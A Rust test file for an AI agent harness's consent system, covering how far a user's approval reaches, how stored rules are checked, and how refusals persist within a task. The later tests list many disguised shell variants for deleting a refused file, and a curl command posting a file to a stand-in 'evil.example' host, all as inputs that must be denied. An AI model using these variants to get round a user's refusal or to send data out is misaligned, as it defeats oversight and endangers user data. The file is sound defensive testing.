@@ -1,0 +1,306 @@
+//! How far a yes reaches: once, this task, these folders until a date; and a no, for the rest of the task.
+
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+
+use artoo_proto::{CallStatus, ConsentOffers, ConsentScope, Leave, TaskId, ToolCall, ToolOutcome};
+use serde_json::{Value, json};
+
+use super::{House, called, next_task};
+use crate::{CallContext, RuleBook};
+
+fn with_data() -> House {
+    House::with(|config| {
+        let data = std::path::Path::new(&config.environment.home).join(".artoo");
+        fs::create_dir_all(&data).unwrap();
+        fs::set_permissions(&data, fs::Permissions::from_mode(0o700)).unwrap();
+        config.data_dir = Some(data);
+    })
+}
+
+fn book(house: &House) -> RuleBook {
+    RuleBook::new(house.home.join(".artoo"))
+}
+
+fn of(task: &TaskId, tool: &str, input: Value) -> CallContext {
+    let mut context = CallContext { task_id: task.clone(), ..House::context(tool, input) };
+    context.allowed_tools.push("files".to_owned());
+    context
+}
+
+fn delete(task: &TaskId, paths: &[&str]) -> CallContext {
+    of(task, "files", json!({"act": "delete", "paths": paths}))
+}
+
+fn shell(task: &TaskId, command: &str) -> CallContext {
+    of(task, "shell", json!({"command": command}))
+}
+
+/// Asks; the call must need a yes.
+async fn offered(house: &House, context: &CallContext) -> ConsentOffers {
+    match house.outcome(context, None).await {
+        ToolOutcome::NeedsConsent { offers, .. } => offers,
+        ToolOutcome::Called { call } => panic!("was not asked about: {call:?}"),
+    }
+}
+
+async fn allowed(house: &House, context: &CallContext, scope: ConsentScope) -> ToolCall {
+    let ToolOutcome::NeedsConsent { hash, .. } = house.outcome(context, None).await else { panic!("not asked") };
+    called(house.outcome(context, Some(house.registry.grant(&hash, scope))).await)
+}
+
+/// Asks and says no.
+async fn refused(house: &House, context: &CallContext) {
+    let ToolOutcome::NeedsConsent { hash, .. } = house.outcome(context, None).await else { panic!("not asked") };
+    house.registry.refuse(&context.task_id, &hash);
+}
+
+async fn asks(house: &House, context: &CallContext) -> bool {
+    matches!(house.outcome(context, None).await, ToolOutcome::NeedsConsent { .. })
+}
+
+#[tokio::test]
+async fn h9_h11_a_yes_for_the_task_covers_its_effects_and_no_more() {
+    let house = House::new();
+    let (task, other) = (next_task(), next_task());
+    house.file("work/old/a", "1");
+    house.file("work/old/sub/b", "22");
+    house.file("work/keep", "");
+    let first = delete(&task, &["old"]);
+    let offers = offered(&house, &first).await;
+    let expected =
+        format!("take away, move or change what is there: {}/work/old and everything below it", house.home.display());
+    assert_eq!(offers, ConsentOffers { task: vec![expected], path: Vec::new() });
+    let call = allowed(&house, &first, ConsentScope::Task).await;
+    assert_eq!((call.status, call.leave), (CallStatus::Ok, Some(Leave::Task)));
+    // The same effects, less of them, spelled otherwise: nobody is asked.
+    house.file("work/old/a", "new");
+    house.file("work/old/sub/c", "new");
+    symlink(house.home.join("work/old"), house.home.join("work/link")).unwrap();
+    let call = called(house.outcome(&delete(&task, &["./sub/../old/sub/c"]), None).await);
+    assert_eq!((call.status, call.leave), (CallStatus::Ok, Some(Leave::Task)));
+    let call = called(house.outcome(&delete(&task, &["link/a"]), None).await);
+    assert_eq!((call.status, call.leave), (CallStatus::Ok, Some(Leave::Task)));
+    // Anything beyond them asks: another place, the folder around, another verb, another tool, another task.
+    house.file("work/old/a", "again");
+    for beyond in [
+        delete(&task, &["keep"]),
+        delete(&task, &["old/a", "keep"]),
+        delete(&task, &["link"]),
+        of(&task, "files", json!({"act": "move", "paths": ["old/a"], "to": "elsewhere/"})),
+        of(&task, "files", json!({"act": "copy", "paths": ["keep"], "to": "old/keep"})),
+        shell(&task, "rm old/a"),
+        delete(&other, &["old/a"]),
+    ] {
+        assert!(asks(&house, &beyond).await, "{:?}", beyond.request);
+    }
+    // A yes to a file is none to a folder that stands in its place later.
+    house.file("work/single", "1");
+    allowed(&house, &delete(&task, &["single"]), ConsentScope::Task).await;
+    house.file("work/single/deep", "1");
+    assert!(asks(&house, &delete(&task, &["single"])).await);
+    // And once the task is over, so does the same.
+    house.registry.forget(&task);
+    assert!(asks(&house, &delete(&task, &["old/a"])).await);
+}
+
+#[tokio::test]
+async fn what_is_not_proven_gets_a_yes_for_once_and_nothing_wider() {
+    let house = with_data();
+    let task = next_task();
+    house.file("work/a", "1");
+    let context = shell(&task, "rm a");
+    assert_eq!(offered(&house, &context).await, ConsentOffers::default());
+    for scope in [ConsentScope::Task, ConsentScope::Path { days: 9 }] {
+        house.file("work/a", "1");
+        let call = allowed(&house, &context, scope).await;
+        assert_eq!((call.status, call.leave), (CallStatus::Ok, Some(Leave::Once)), "{scope:?}");
+    }
+    house.file("work/a", "1");
+    assert!(asks(&house, &context).await);
+    assert!(!book(&house).path().exists());
+}
+
+#[tokio::test]
+async fn a_rule_holds_in_its_folder_for_every_task_until_it_is_revoked() {
+    let house = with_data();
+    house.file("work/tmp/a", "1");
+    house.file("work/tmp/sub/b", "1");
+    house.file("work/b", "1");
+    let first = delete(&next_task(), &["tmp/a"]);
+    let offers = offered(&house, &first).await;
+    assert_eq!(offers.path.len(), 1);
+    assert!(
+        offers.path[0].contains(": anything in ")
+            && offers.path[0].ends_with(&format!("{}/work/tmp", house.home.display())),
+        "{offers:?}"
+    );
+    let call = allowed(&house, &first, ConsentScope::Path { days: 2 }).await;
+    assert_eq!(call.leave, Some(Leave::Rule { id: "r1".to_owned() }));
+    let call = called(house.outcome(&delete(&next_task(), &["tmp/sub"]), None).await);
+    assert_eq!((call.status, call.leave), (CallStatus::Ok, Some(Leave::Rule { id: "r1".to_owned() })));
+    for beyond in [delete(&next_task(), &["b"]), delete(&next_task(), &["tmp"]), {
+        house.file("work/tmp/c", "");
+        CallContext { confirm: true, ..delete(&next_task(), &["tmp/c"]) }
+    }] {
+        assert!(asks(&house, &beyond).await, "{:?}", beyond.request);
+    }
+    let now = artoo_proto::Timestamp::from_millis(i64::MAX);
+    assert!(book(&house).list(now).unwrap().is_empty(), "it has an end");
+    let now = crate::tests::now();
+    let rules = book(&house).list(now).unwrap();
+    assert_eq!((rules.len(), rules[0].id.as_str(), rules[0].tool.as_str()), (1, "r1", "files"));
+    assert!(rules[0].last_used.is_some() && rules[0].until > now, "{rules:?}");
+    assert_eq!(fs::metadata(book(&house).path()).unwrap().permissions().mode() & 0o777, 0o600);
+    assert_eq!(book(&house).revoke("r1", now).unwrap().map(|rule| rule.id), Some("r1".to_owned()));
+    assert_eq!(book(&house).revoke("r1", now).unwrap(), None);
+    assert!(asks(&house, &delete(&next_task(), &["tmp/c"])).await);
+}
+
+#[tokio::test]
+async fn no_rule_is_offered_for_the_home_folder_hidden_places_or_the_system() {
+    let house = with_data();
+    house.file("top", "1");
+    house.file(".config/x/y", "1");
+    house.file("around/.hidden/z", "1");
+    let outside = tempfile::TempDir::new().unwrap();
+    let far = outside.path().join("far");
+    fs::write(&far, "1").unwrap();
+    for path in ["~/top", "~/.config/x/y", "~/around/.hidden/z", far.to_str().unwrap()] {
+        let offers = offered(&house, &delete(&next_task(), &[path])).await;
+        assert!(offers.path.is_empty() && !offers.task.is_empty(), "{path}: {offers:?}");
+    }
+}
+
+#[tokio::test]
+async fn rules_that_others_could_have_written_or_that_say_more_than_is_known_are_refused_whole() {
+    let house = with_data();
+    house.file("work/tmp/a", "1");
+    let context = delete(&next_task(), &["tmp/a"]);
+    allowed(&house, &context, ConsentScope::Path { days: 1 }).await;
+    house.file("work/tmp/a", "1");
+    let path = book(&house).path();
+    let good = fs::read_to_string(&path).unwrap();
+    let now = crate::tests::now();
+    let check = |why: &str| {
+        let problem = book(&house).list(now).unwrap_err().to_string();
+        assert!(problem.contains(why), "{problem}");
+    };
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o620)).unwrap();
+    check("others can write it");
+    let ToolOutcome::NeedsConsent { reason, offers, .. } = house.outcome(&context, None).await else { panic!() };
+    assert!(reason.contains("your rules are not used") && offers.path.is_empty(), "{reason} {offers:?}");
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+    assert!(!asks(&house, &context).await);
+    house.file("work/tmp/a", "1");
+    for bad in [
+        good.replace("\"tool\"", "\"tools\": 1, \"tool\""),
+        good.replace("\"span\"", "\"depth\": 1, \"span\""),
+        good.replace("\"verb\": \"take\"", "\"verb\": \"anything\""),
+        good[..good.len() - 2].to_owned(),
+        String::new(),
+    ] {
+        fs::write(&path, bad).unwrap();
+        check("is refused whole");
+        assert!(asks(&house, &context).await);
+    }
+    fs::remove_file(&path).unwrap();
+    symlink(house.file("elsewhere.json", &good), &path).unwrap();
+    assert!(book(&house).list(now).is_err(), "a link is not followed");
+    fs::remove_file(&path).unwrap();
+    fs::write(&path, &good).unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+    fs::set_permissions(path.parent().unwrap(), fs::Permissions::from_mode(0o777)).unwrap();
+    check("others can write its folder");
+}
+
+#[tokio::test]
+async fn d10_what_was_refused_is_refused_by_effect_for_the_rest_of_the_task() {
+    let house = House::new();
+    let task = next_task();
+    house.file("work/keep.txt", "1");
+    house.file("work/other.txt", "1");
+    house.file("work/dir/deep", "1");
+    symlink("keep.txt", house.home.join("work/link")).unwrap();
+    refused(&house, &shell(&task, "rm keep.txt")).await;
+    let home = house.home.display().to_string();
+    let again = [
+        "rm keep.txt".to_owned(),
+        "rm  -f ./keep.txt".to_owned(),
+        "rm dir/../keep.txt".to_owned(),
+        format!("rm {home}/work/keep.txt"),
+        "rm ~/work/keep.txt".to_owned(),
+        "rm \"$HOME\"\"/\"work/keep.txt".to_owned(),
+        "rm ${PWD}/keep.txt".to_owned(),
+        "F=keep.txt; rm $F".to_owned(),
+        "sh -c 'rm keep.txt'".to_owned(),
+        "bash -c \"r\\m ke'ep'.txt\"".to_owned(),
+        "cd ~ && rm ./work/keep.txt".to_owned(),
+        "cd ~/work && rm keep.txt".to_owned(),
+        "rm k*.txt".to_owned(),
+        "rm {keep,x}.txt".to_owned(),
+        "rm -r ~/work".to_owned(),
+        "mv keep.txt gone".to_owned(),
+        "unlink keep.txt".to_owned(),
+        "truncate -s0 keep.txt".to_owned(),
+        "echo x > keep.txt".to_owned(),
+        ": >| keep.txt".to_owned(),
+        "dd of=keep.txt if=/dev/null".to_owned(),
+        "python3 -c 'import os; os.remove(\"keep.txt\")'".to_owned(),
+        "find . -name keep.txt -exec rm keep.txt \\;".to_owned(),
+        "rm link; rm keep.txt".to_owned(),
+        "echo x > link".to_owned(),
+        "sudo env rm $'keep\\x2etxt'".to_owned(),
+    ];
+    for command in &again {
+        let call = match house.outcome(&shell(&task, command), None).await {
+            ToolOutcome::Called { call } => call,
+            ToolOutcome::NeedsConsent { .. } => panic!("asks again about {command}"),
+        };
+        assert_eq!(call.status, CallStatus::Denied, "{command}: {call:?}");
+        assert!(call.output.starts_with("[LAW1] it was refused before in this task: "), "{call:?}");
+    }
+    for input in
+        [json!({"act": "delete", "paths": ["keep.txt"]}), json!({"act": "move", "paths": ["keep.txt"], "to": "x"})]
+    {
+        let call = called(house.outcome(&of(&task, "files", input), None).await);
+        assert_eq!(call.status, CallStatus::Denied, "{call:?}");
+    }
+    // What is another effect is asked about, reading is free, and another task is another matter.
+    for command in ["rm other.txt", "rm -r dir", "echo x > new.txt; true"] {
+        assert!(asks(&house, &shell(&task, command)).await, "{command}");
+    }
+    assert_eq!(called(house.outcome(&shell(&task, "cat keep.txt"), None).await).status, CallStatus::Ok);
+    assert!(asks(&house, &shell(&next_task(), "rm keep.txt")).await);
+    assert!(house.home.join("work/keep.txt").exists());
+}
+
+#[tokio::test]
+async fn d10_a_refused_act_of_files_is_refused_in_the_shell_and_in_part() {
+    let house = House::new();
+    let task = next_task();
+    house.file("work/dir/a", "1");
+    house.file("work/b", "1");
+    refused(&house, &delete(&task, &["dir"])).await;
+    for command in ["rm -r dir", "rm dir/a", "rm -rf ../work", "mv dir elsewhere"] {
+        let call = called(house.outcome(&shell(&task, command), None).await);
+        assert_eq!(call.status, CallStatus::Denied, "{command}: {call:?}");
+    }
+    let call = called(house.outcome(&delete(&task, &["b", "dir/a"]), None).await);
+    assert_eq!(call.status, CallStatus::Denied, "{call:?}");
+    assert!(asks(&house, &delete(&task, &["b"])).await);
+}
+
+#[tokio::test]
+async fn d10_a_refused_machine_is_not_reached_by_another_program() {
+    let house = House::new();
+    let task = next_task();
+    refused(&house, &shell(&task, "curl -d @a http://Evil.example/x")).await;
+    for command in
+        ["wget https://evil.example:443/y".replace(":443", ""), "sh -c 'curl http://evil.example'".to_owned()]
+    {
+        let call = called(house.outcome(&shell(&task, &command), None).await);
+        assert_eq!(call.status, CallStatus::Denied, "{command}: {call:?}");
+    }
+    assert!(asks(&house, &shell(&task, "curl http://good.example")).await);
+}
